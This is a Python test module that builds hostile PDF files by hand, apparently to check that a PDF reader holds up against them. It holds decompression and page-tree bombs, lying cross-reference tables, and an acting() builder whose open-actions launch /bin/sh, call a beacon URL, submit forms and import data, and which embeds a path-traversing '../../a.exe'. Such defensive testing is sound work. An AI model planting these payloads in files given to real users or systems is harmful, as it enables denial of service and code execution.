"""Builders of hostile PDF files: objects, tables and trailers are written by hand, so that each may lie."""

import zlib
from collections.abc import Sequence

from tests.faults.attack import THEFT
from tests.faults.words import BEACON, ENGLISH

TOO_MUCH = "crashed|not read within|memory"
DAMAGED = "damaged|no pages|no page has readable text|pages, the limit"
TEXT = f"BT /F1 12 Tf 20 100 Td ({ENGLISH}) Tj ET".encode()
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
ROOT = b"<< /Type /Catalog /Pages 2 0 R >>"


def stream(content: bytes, entries: bytes = b"", length: bytes | None = None) -> bytes:
    """Write a stream object; ``length`` may lie."""
    declared = str(len(content)).encode() if length is None else length
    return b"<< " + entries + b" /Length " + declared + b" >>\nstream\n" + content + b"\nendstream"


def file_of(objects: dict[int, bytes], trailer: bytes = b"", prev: str = "") -> bytes:
    """Write a PDF of numbered objects; ``prev`` is "self" for a table that names itself as the one before."""
    content, places = b"%PDF-1.7\n", {}
    for number, value in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n" % number + value + b"\nendobj\n"
    table = len(content)
    content += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        content += b"%d 1\n%010d 00000 n \n" % (number, place)
    back = b" /Prev %d" % table if prev == "self" else b""
    size = max(objects) + 1
    return content + b"trailer\n<< /Size %d /Root 1 0 R%s %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        back,
        trailer,
        table,
    )


def one_page(contents: bytes | None = None, **changes: bytes) -> bytes:
    """Write a page; ``changes`` replaces objects, ``o6=...`` adds one."""
    objects = {1: ROOT, 2: TREE, 3: PAGE, 4: stream(TEXT) if contents is None else contents, 5: FONT}
    return file_of(objects | {int(name[1:]): value for name, value in changes.items()})


def flate_bomb(megabytes: int, times: int) -> bytes:
    """Pack spaces, and pack what comes out again."""
    packer, spaces = zlib.compressobj(9), b" " * 10**6
    packed = packer.compress(spaces) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(spaces) + packer.flush(zlib.Z_FULL_FLUSH)
    packed += piece * (megabytes - 1) + packer.flush()  # no reader minds the check sum
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return one_page(stream(packed, b"/Filter [" + b"/FlateDecode " * times + b"]"))


def run_length_bomb(times: int) -> bytes:
    """Let each run-length filter make 64 times as much of it."""
    content = b"\x81 " * 20 + b"\x80"
    for _ in range(times - 1):
        content = b"".join(bytes((0, byte)) for byte in content[:60]) + b"\x81\x81" * 40 + b"\x80"
    return one_page(stream(content, b"/Filter [" + b"/RunLengthDecode " * times + b"]"))


def chained(name: bytes, times: int) -> bytes:
    """Put thousands of filters in a row."""
    return one_page(stream(TEXT, b"/Filter [" + name * times + b"]"))


def page_bomb(width: int, levels: int) -> bytes:
    """Let each node of the page tree hold the same next one many times: width ** levels pages in a kilobyte."""
    objects = {1: ROOT, 3: PAGE, 4: stream(TEXT), 5: FONT}
    numbers = [2, *range(10, 9 + levels)]
    for level, number in enumerate(numbers):
        child = 3 if level + 1 == levels else numbers[level + 1]
        kids = b"%d 0 R " % child * width
        objects[number] = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % width ** (levels - level)
    return file_of(objects)


def true_pages(count: int) -> bytes:
    """Write so many pages, each an object of its own."""
    kids = b" ".join(b"%d 0 R" % (10 + number) for number in range(count))
    objects = {1: ROOT, 2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count, 4: stream(TEXT), 5: FONT}
    parts, places, at = [b"%PDF-1.7\n"], {}, 9
    for number, value in (*objects.items(), *((10 + number, PAGE) for number in range(count))):
        part = b"%d 0 obj\n" % number + value + b"\nendobj\n"
        places[number] = at
        parts.append(part)
        at += len(part)
    table = [b"%010d 00000 n \n" % places.get(number, 0) for number in range(10 + count)]
    end = b"xref\n0 %d\n" % (10 + count) + b"".join(table)
    end += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (10 + count, at)
    return b"".join(parts) + end


def picture(entries: bytes, content: bytes) -> bytes:
    """Show a picture whose data is hostile beside a text."""
    page = PAGE.replace(b"/Font", b"/XObject << /Im 6 0 R >> /Font")
    shown = stream(TEXT + b" q 100 0 0 100 0 0 cm /Im Do Q")
    image = stream(content, b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray " + entries)
    return one_page(shown, o3=page, o6=image)


def acting() -> bytes:
    """Write what acts when it is opened: scripts, programs, forms, links, files."""
    act = (
        f"<< /S /JavaScript /JS (app.launchURL\\('{BEACON}'\\)) /Next [<< /S /Launch /F (/bin/sh) >> << /S /URI /URI"
        f" ({BEACON}) >> << /S /SubmitForm /F ({BEACON}) >> << /S /GoToR /F ({THEFT}) /D [0 /Fit] >>"
        f" << /S /ImportData /F ({THEFT}) >>] >>"
    ).encode()
    root = ROOT.replace(
        b" >>", b" /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >> >>"
    )
    carried = b"<< /Type /Filespec /F (../../a.exe) /UF (a.exe) /EF << /F 8 0 R >> >>"
    return one_page(o1=root, o6=act, o7=carried, o8=stream(b"MZ\x90\0" + bytes(100), b"/Type /EmbeddedFile"))


def carrying(name: bytes, content: bytes) -> bytes:
    """Attach a file."""
    root = ROOT.replace(b" >>", b" /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> >>")
    carried = b"<< /Type /Filespec /F (" + name + b") /UF (" + name + b") /EF << /F 7 0 R >> >>"
    return one_page(o1=root, o6=carried, o7=stream(content, b"/Type /EmbeddedFile"))


def outline(entry: bytes) -> bytes:
    """Give an outline whose entries lead in a ring."""
    root = ROOT.replace(b" >>", b" /Outlines 6 0 R >>")
    return one_page(o1=root, o6=b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", o7=entry)


def font(entries: bytes, *more: bytes) -> bytes:
    """Set the text in a hostile font."""
    objects = {f"o{number}": value for number, value in enumerate(more, 6)}
    return one_page(None, o5=b"<< /Type /Font " + entries + b" >>", **objects)


def unicode_map(ranges: Sequence[bytes]) -> bytes:
    return b"begincmap 1 begincodespacerange <00> <FF> endcodespacerange " + b" ".join(ranges) + b" endcmap"


FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>"
FORM_PAGE = PAGE.replace(b"/Font", b"/XObject << /X 6 0 R /Y 7 0 R >> /Font")
HUGE_MAP = stream(unicode_map([b"1 beginbfrange <00> <FFFFFFFF> <0041> endbfrange"]))
LONG_MAP = stream(unicode_map([b"1 beginbfchar <51> <" + b"0041" * 100_000 + b"> endbfchar"]))
TYPE1 = b"/Subtype /Type1 /BaseFont /Helvetica"
